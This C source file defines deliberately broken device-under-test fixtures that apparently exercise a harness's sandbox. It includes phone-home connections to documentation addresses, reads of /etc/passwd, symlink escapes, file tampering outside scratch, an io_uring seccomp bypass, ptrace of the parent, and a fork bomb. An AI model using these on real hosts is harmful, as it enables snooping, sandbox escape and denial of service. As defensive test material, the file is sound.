/* broken.c — the misbehaviours of the broken DUT fixtures, as link hooks around the real firmware.
 */
#define _GNU_SOURCE
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <dirent.h>
#include <sys/stat.h>
#include <fcntl.h>
#include <unistd.h>
#include "broken.h"

static const char *const names[] = {"hang",        "crash",  "exit",  "oversize", "garbage",
                                    "wrong-frame", "images", "flood", "silent",   "bad-version",
                                    "daemon",      "setsid", "ignore-term", "late-spawn",
                                    "phone-home",  "hoard",  "ptrace",      "exec",
                                    "fork-bomb",   "alloc",  "next-frame",  "bad-hello",
                                    "stderr-escape", "snoop", "litter", "loopback",
                                    "io-uring",    "symlink", "remove", "chatter"};

int fbfw_broken_parse(const char *arg, fbfw_broken *b, char *err, size_t err_len)
{
    char mode[32];
    const char *at = strchr(arg, '@');
    size_t n = at ? (size_t)(at - arg) : strlen(arg);
    b->from_frame = 5;
    if (n >= sizeof mode) {
        snprintf(err, err_len, "unknown mode \"%s\" (expected %s)", arg, FBFW_BROKEN_MODES);
        return -1;
    }
    memcpy(mode, arg, n);
    mode[n] = '\0';
    if (at) {
        char *end;
        unsigned long v = strtoul(at + 1, &end, 10);
        if (!at[1] || *end || v > 1000000) {
            snprintf(err, err_len, "\"%s\": N must be a frame number", arg);
            return -1;
        }
        b->from_frame = (uint32_t)v;
    }
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++)
        if (strcmp(mode, names[i]) == 0) {
            b->mode = (fbfw_broken_mode)i;
            return 0;
        }
    snprintf(err, err_len, "unknown mode \"%s\" (expected %s)", mode, FBFW_BROKEN_MODES);
    return -1;
}

static void garbage_forever(fbfw_link *lk)
{
    uint32_t x = 0x9E3779B9u; /* xorshift32, fixed seed: the same garbage every run */
    uint8_t buf[256];
    for (;;) {
        for (size_t i = 0; i < sizeof buf; i++) {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            buf[i] = (uint8_t)x;
        }
        if (lk->port->write(lk->port->ctx, buf, sizeof buf) < 0)
            exit(1);
    }
}

static void flood_forever(fbfw_link *lk)
{
    fbp_msg m;
    memset(&m, 0, sizeof m);
    m.type = FBP_STATUS;
    for (;;) {
        m.u.status.nonce++;
        if (fbfw_link_send_raw(lk, &m) < 0)
            exit(1);
    }
}

/* A process that outlives its parent if nobody ends it: named for ps, asleep forever. */
static void linger(const char *name, bool detach, bool ignore_term)
{
    prctl(PR_SET_NAME, name);
    if (ignore_term)
        signal(SIGTERM, SIG_IGN);
    if (detach) {
        close(0);
        close(1);
    }
    for (;;)
        pause();
}

/* Tries to reach a host on the internet (documentation addresses, RFC 5737). */
static void phone_home(void)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(443)};
    inet_pton(AF_INET, "203.0.113.9", &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
        fprintf(stderr, "phone-home: connect: %s\n", strerror(errno));
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in d = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "198.51.100.7", &d.sin_addr);
    if (sendto(u, "frame", 5, 0, (struct sockaddr *)&d, sizeof d) < 0)
        fprintf(stderr, "phone-home: sendto: %s\n", strerror(errno));
    if (s >= 0)
        close(s);
    if (u >= 0)
        close(u);
}

/* A TCP connection to itself on 127.0.0.1: a listener on an ephemeral port, connect, accept,
 * 4 bytes across. Returns the bytes that arrived, or -1. */
static ssize_t loop_tcp(void)
{
    int l = socket(AF_INET, SOCK_STREAM, 0), c = socket(AF_INET, SOCK_STREAM, 0), a = -1;
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t len = sizeof sa;
    char buf[8];
    ssize_t got = -1;
    if (l >= 0 && c >= 0 && bind(l, (struct sockaddr *)&sa, sizeof sa) == 0 && listen(l, 1) == 0 &&
        getsockname(l, (struct sockaddr *)&sa, &len) == 0 && connect(c, (struct sockaddr *)&sa, sizeof sa) == 0 &&
        (a = accept(l, NULL, NULL)) >= 0 && write(c, "ping", 4) == 4)
        got = read(a, buf, sizeof buf);
    else
        fprintf(stderr, "loopback: tcp: %s\n", strerror(errno));
    if (a >= 0)
        close(a);
    if (c >= 0)
        close(c);
    if (l >= 0)
        close(l);
    return got;
}

/* A datagram to itself: family AF_INET or AF_INET6 (by sendmsg with an address), or an abstract
 * Unix socket. Returns the bytes that arrived, or -1. */
static ssize_t loop_dgram(int family)
{
    union {
        struct sockaddr sa;
        struct sockaddr_in in;
        struct sockaddr_in6 in6;
        struct sockaddr_un un;
    } u;
    memset(&u, 0, sizeof u);
    socklen_t len;
    if (family == AF_INET) {
        u.in.sin_family = AF_INET;
        u.in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        len = sizeof u.in;
    } else if (family == AF_INET6) {
        u.in6.sin6_family = AF_INET6;
        u.in6.sin6_addr = in6addr_loopback;
        len = sizeof u.in6;
    } else {
        u.un.sun_family = AF_UNIX;
        memcpy(u.un.sun_path, "\0fbloop", 7);
        len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 7);
    }
    int s = socket(family, SOCK_DGRAM, 0);
    char buf[8];
    ssize_t got = -1;
    if (s >= 0 && bind(s, &u.sa, len) == 0 && (family == AF_UNIX || getsockname(s, &u.sa, &len) == 0)) {
        struct iovec iov = {"ping", 4};
        struct msghdr mh = {.msg_name = &u, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1};
        if ((family == AF_INET6 ? sendmsg(s, &mh, 0) : sendto(s, "ping", 4, 0, &u.sa, len)) == 4)
            got = recv(s, buf, sizeof buf, 0);
    }
    if (got < 0)
        fprintf(stderr, "loopback: %s: %s\n", family == AF_INET ? "udp" : family == AF_INET6 ? "udp6" : "unix",
                strerror(errno));
    if (s >= 0)
        close(s);
    return got;
}

/* Talks to itself, then tries one datagram out by sendmsg (a documentation address, RFC 5737). */
static void loopback(void)
{
    fprintf(stderr, "loopback: tcp %zd, udp %zd, udp6 %zd, unix %zd bytes\n", loop_tcp(), loop_dgram(AF_INET),
            loop_dgram(AF_INET6), loop_dgram(AF_UNIX));
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in d = {.sin_family = AF_INET, .sin_port = htons(9)};
    inet_pton(AF_INET, "192.0.2.1", &d.sin_addr);
    struct iovec iov = {"frame", 5};
    struct msghdr mh = {.msg_name = &d, .msg_namelen = sizeof d, .msg_iov = &iov, .msg_iovlen = 1};
    if (s >= 0 && sendmsg(s, &mh, 0) < 0)
        fprintf(stderr, "loopback: sendmsg out: %s\n", strerror(errno));
    if (s >= 0)
        close(s);
}

/* Keeps a copy of the frame: in its working folder, and somewhere that outlives the run. */
static void hoard(const fbfw_link *lk, uint32_t frame_no)
{
    char path[64];
    const char *where[] = {"", "/var/tmp/fbhoard-"};
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "%sf%u.raw", where[i], (unsigned)frame_no);
        FILE *f = fopen(path, "wb");
        if (!f) {
            fprintf(stderr, "hoard: %s: %s\n", path, strerror(errno));
            continue;
        }
        fwrite(lk->frame, 1, lk->frame_bytes, f);
        fclose(f);
    }
}

static void fork_bomb(void)
{
    int n = 0;
    for (; n < 100000; n++) {
        pid_t p = fork();
        if (p < 0)
            break;
        if (p == 0)
            for (;;)
                pause();
    }
    fprintf(stderr, "fork-bomb: %d processes started before fork failed\n", n);
}

static void alloc_2gib(void)
{
    size_t n = (size_t)2 << 30;
    char *p = malloc(n);
    if (!p) {
        fprintf(stderr, "alloc: 2 GiB refused\n");
        return;
    }
    memset(p, 1, n);
    fprintf(stderr, "alloc: 2 GiB allocated and touched\n");
    free(p);
}

/* Writes what a terminal would obey: clear the screen, retitle the window, a bell, colours. */
static void stderr_escapes(void)
{
    fputs("\033[2J\033[H\033]0;owned\007\033[31mred\033[0m\r\bdone\n", stderr);
    fflush(stderr);
}

/* Reads what is not its business: the password file and the user's home folder. */
static void snoop(void)
{
    char buf[256];
    int fd = open("/etc/passwd", O_RDONLY);
    if (fd >= 0) {
        ssize_t n = read(fd, buf, sizeof buf);
        fprintf(stderr, "snoop: /etc/passwd: %zd bytes\n", n);
        close(fd);
    } else {
        fprintf(stderr, "snoop: /etc/passwd: %s\n", strerror(errno));
    }
    const char *home = getenv("HOME");
    DIR *d = opendir(home && *home ? home : "/root");
    if (d) {
        int n = 0;
        while (readdir(d))
            n++;
        fprintf(stderr, "snoop: home: %d entries\n", n);
        closedir(d);
    }
    /* a relative path, from a working folder it moved to */
    char cwd[256];
    if (getcwd(cwd, sizeof cwd) && chdir("/etc") == 0) {
        fd = open("hostname", O_RDONLY);
        fprintf(stderr, "snoop: hostname: %s\n", fd >= 0 ? "read" : strerror(errno));
        if (fd >= 0)
            close(fd);
        if (chdir(cwd) != 0)
            fprintf(stderr, "snoop: back to %s: %s\n", cwd, strerror(errno));
    }
}

/* Leaves files in its working folder: litter/01 .. litter/20, file i holding i bytes. */
static void litter(void)
{
    if (mkdir("litter", 0755) != 0 && errno != EEXIST) {
        fprintf(stderr, "litter: %s\n", strerror(errno));
        return;
    }
    for (int i = 1; i <= 20; i++) {
        char path[32];
        snprintf(path, sizeof path, "litter/%02d", i);
        FILE *f = fopen(path, "wb");
        if (!f) {
            fprintf(stderr, "litter: %s: %s\n", path, strerror(errno));
            continue;
        }
        for (int k = 0; k < i; k++)
            fputc('x', f);
        fclose(f);
    }
}

/* io_uring_setup by its number (no liburing): a ring would carry opens, connects and sends
 * past the seccomp filter. */
static void io_uring(void)
{
#ifdef SYS_io_uring_setup
    uint8_t params[120]; /* struct io_uring_params, zeroed: the kernel's defaults */
    memset(params, 0, sizeof params);
    long fd = syscall(SYS_io_uring_setup, 4, params);
    fprintf(stderr, "io-uring: setup: %s\n", fd >= 0 ? "a ring" : strerror(errno));
    if (fd >= 0)
        close((int)fd);
#else
    fprintf(stderr, "io-uring: setup: no such system call here\n");
#endif
}

/* Links in its own scratch folder to files outside it, then opens them and stats them. */
static void symlinks(void)
{
    static const char *const links[][3] = {{"/etc/passwd", "passwd-link", "passwd-link"},
                                           {"/etc", "etc-link", "etc-link/hostname"}};
    for (size_t i = 0; i < 2; i++) {
        if (symlink(links[i][0], links[i][1]) != 0) {
            fprintf(stderr, "symlink: %s: %s\n", links[i][1], strerror(errno));
            continue;
        }
        int fd = open(links[i][2], O_RDONLY | O_CLOEXEC);
        char buf[64];
        ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf) : -1;
        fprintf(stderr, "symlink: %s: %s\n", links[i][2], n >= 0 ? "read" : strerror(errno));
        if (fd >= 0)
            close(fd);
        /* stat is not notified: only the kernel (a nosymfollow scratch) stands in the way */
        struct stat st;
        fprintf(stderr, "symlink: stat %s: %s\n", links[i][2],
                stat(links[i][2], &st) == 0 ? "found" : strerror(errno));
    }
}

/* Changes names outside its scratch folder (the paths under /var/tmp, which the sandbox hides:
 * with --sandbox off, test files at most), after one rename of its own in scratch. */
static void said(const char *what, int rc)
{
    fprintf(stderr, "remove: %s: %s\n", what, rc == 0 ? "done" : strerror(errno));
}

static void remove_host(void)
{
    FILE *f = fopen("mine.txt", "wb");
    if (f) {
        fputc('x', f);
        fclose(f);
    }
    const char *keep = "/var/tmp/fbbroken-keep.txt";
    said("rename mine.txt mine2.txt", rename("mine.txt", "mine2.txt"));
    said("unlink", unlink(keep));
    said("rename to /var/tmp", rename("mine2.txt", "/var/tmp/fbbroken-moved.txt"));
    said("mkdir ../var/tmp/fbbroken-dir", mkdir("../var/tmp/fbbroken-dir", 0755));
    said("symlinkat", symlinkat("/etc/passwd", AT_FDCWD, "/var/tmp/fbbroken-link"));
    said("chmod", chmod(keep, 0666));
}

/* A well-formed packet of type `type` with `len` payload bytes of 0x5A (valid CRC). */
static int send_raw_packet(fbfw_link *lk, uint8_t type, uint16_t len)
{
    static uint8_t raw[1508], wire[1600];
    memset(raw, 0x5A, sizeof raw);
    raw[0] = type;
    raw[1] = 0;
    raw[2] = (uint8_t)(len & 0xFFu);
    raw[3] = (uint8_t)(len >> 8);
    uint32_t crc = fbp_crc32(0, raw, 4u + len);
    for (int i = 0; i < 4; i++)
        raw[4u + len + (unsigned)i] = (uint8_t)(crc >> (8 * i));
    int n = fbp_cobs_encode(raw, 8u + len, wire, sizeof wire);
    return n < 0 ? n : lk->port->write(lk->port->ctx, wire, (size_t)n);
}

static void before_frame(void *hctx, fbfw_link *lk, uint32_t frame_no)
{
    const fbfw_broken *b = hctx;
    if (frame_no < b->from_frame)
        return;
    switch (b->mode) {
    case FBFW_BROKEN_HANG:
        for (;;)
            pause();
    case FBFW_BROKEN_CRASH:
        signal(SIGSEGV, SIG_DFL); /* a sanitizer's handler would turn the signal into exit(1) */
        raise(SIGSEGV);
        abort();
    case FBFW_BROKEN_EXIT:
        exit(0);
    case FBFW_BROKEN_GARBAGE:
        garbage_forever(lk);
        break;
    case FBFW_BROKEN_FLOOD:
        flood_forever(lk);
        break;
    case FBFW_BROKEN_PHONE_HOME:
        if (frame_no == b->from_frame)
            phone_home();
        break;
    case FBFW_BROKEN_HOARD:
        if (frame_no == b->from_frame)
            hoard(lk, frame_no);
        break;
    case FBFW_BROKEN_PTRACE:
        if (frame_no == b->from_frame && ptrace(PTRACE_ATTACH, getppid(), NULL, NULL) != 0)
            fprintf(stderr, "ptrace: %s\n", strerror(errno));
        break;
    case FBFW_BROKEN_EXEC:
        if (frame_no == b->from_frame) {
            pid_t c = fork();
            if (c == 0) {
                execl("/bin/sh", "sh", "-c", "echo owned", (char *)NULL);
                fprintf(stderr, "exec: /bin/sh: %s\n", strerror(errno));
                _exit(127);
            }
            if (c > 0)
                waitpid(c, NULL, 0);
        }
        break;
    case FBFW_BROKEN_FORK_BOMB:
        if (frame_no == b->from_frame)
            fork_bomb();
        break;
    case FBFW_BROKEN_ALLOC:
        if (frame_no == b->from_frame)
            alloc_2gib();
        break;
    case FBFW_BROKEN_STDERR_ESCAPE:
        if (frame_no == b->from_frame)
            stderr_escapes();
        break;
    case FBFW_BROKEN_LOOPBACK:
        if (frame_no == b->from_frame)
            loopback();
        break;
    case FBFW_BROKEN_SNOOP:
        if (frame_no == b->from_frame)
            snoop();
        break;
    case FBFW_BROKEN_LITTER:
        if (frame_no == b->from_frame)
            litter();
        break;
    case FBFW_BROKEN_IO_URING:
        if (frame_no == b->from_frame)
            io_uring();
        break;
    case FBFW_BROKEN_SYMLINK:
        if (frame_no == b->from_frame)
            symlinks();
        break;
    case FBFW_BROKEN_REMOVE:
        if (frame_no == b->from_frame)
            remove_host();
        break;
    case FBFW_BROKEN_DAEMON:
        if (frame_no == b->from_frame && fork() == 0)
            linger("fbleak-daemon", false, false); /* still holds stdin and stdout */
        break;
    case FBFW_BROKEN_SETSID:
        if (frame_no == b->from_frame) {
            pid_t c = fork();
            if (c == 0) {
                setsid();
                if (fork() == 0)
                    linger("fbleak-setsid", true, false);
                _exit(0);
            }
            if (c > 0)
                waitpid(c, NULL, 0);
        }
        break;
    case FBFW_BROKEN_IGNORE_TERM:
        if (frame_no == b->from_frame) {
            if (fork() == 0)
                linger("fbleak-noterm", true, true);
            signal(SIGTERM, SIG_IGN);
            for (;;)
                pause();
        }
        break;
    default:
        break;
    }
}

/* A well-formed packet with a 1500-byte payload: longer than any receiver has to accept. */
static int send_oversize(fbfw_link *lk)
{
    return send_raw_packet(lk, FBP_EVENT, 1500);
}

static int send_image(fbfw_link *lk, uint32_t frame_no)
{
    const uint8_t *px = (const uint8_t *)lk->frame;
    uint32_t off = 0;
    for (uint16_t i = 0; off < lk->frame_bytes; i++) {
        uint32_t n = lk->frame_bytes - off;
        if (n > FBP_CHUNK_MAX_DATA)
            n = FBP_CHUNK_MAX_DATA;
        fbp_msg c;
        memset(&c, 0, sizeof c);
        c.type = FBP_FRAME_CHUNK;
        c.u.chunk.frame_no = frame_no;
        c.u.chunk.index = i;
        c.u.chunk.n_bytes = (uint16_t)n;
        c.u.chunk.data = px + off;
        int rc = fbfw_link_send_raw(lk, &c);
        if (rc < 0)
            return rc;
        off += n;
    }
    return 0;
}

static int before_send(void *hctx, fbfw_link *lk, fbp_msg *m)
{
    const fbfw_broken *b = hctx;
    if (m->type == FBP_BYE_ACK && b->mode == FBFW_BROKEN_LATE_SPAWN) {
        if (fork() == 0) {
            setsid();
            linger("fbleak-late", true, false);
        }
        return 0;
    }
    if (m->type == FBP_HELLO_ACK) {
        if (b->mode == FBFW_BROKEN_SILENT)
            return 1;
        if (b->mode == FBFW_BROKEN_BAD_VERSION)
            m->u.hello_ack.major = 9;
        if (b->mode == FBFW_BROKEN_BAD_HELLO) {
            if (send_raw_packet(lk, FBP_HELLO_ACK, 5) < 0)
                exit(1);
            return 1;
        }
        return 0;
    }
    if (m->type != FBP_FRAME_DONE || m->u.frame_done.frame_no < b->from_frame)
        return 0;
    switch (b->mode) {
    case FBFW_BROKEN_OVERSIZE:
        if (send_oversize(lk) < 0)
            exit(1);
        break;
    case FBFW_BROKEN_CHATTER:
        if (m->u.frame_done.frame_no - b->from_frame < 2u) {
            /* a log line on the protocol's stream: at frame N ended by the delimiter, at N+1 not
             * (it runs into the FRAME_DONE after it) */
            char line[48];
            int n = snprintf(line, sizeof line, "fw: frame %u ok\r\n",
                             (unsigned)m->u.frame_done.frame_no);
            bool ended = m->u.frame_done.frame_no == b->from_frame;
            if (lk->port->write(lk->port->ctx, (const uint8_t *)line, (size_t)n + ended) < 0)
                exit(1);
        }
        break;
    case FBFW_BROKEN_WRONG_FRAME:
        m->u.frame_done.frame_no += 3;
        break;
    case FBFW_BROKEN_NEXT_FRAME: {
        fbp_msg e;
        memset(&e, 0, sizeof e);
        e.type = FBP_EVENT;
        e.u.event.kind = 2; /* status: ok */
        e.u.event.frame = m->u.frame_done.frame_no + 1;
        if (fbfw_link_send_raw(lk, &e) < 0)
            exit(1);
        m->u.frame_done.n_events++;
        break;
    }
    case FBFW_BROKEN_IMAGES:
        if (send_image(lk, m->u.frame_done.frame_no) < 0)
            exit(1);
        break;
    default:
        break;
    }
    return 0;
}

const fbfw_link_hooks fbfw_broken_hooks = {.before_frame = before_frame,
                                           .before_send = before_send};
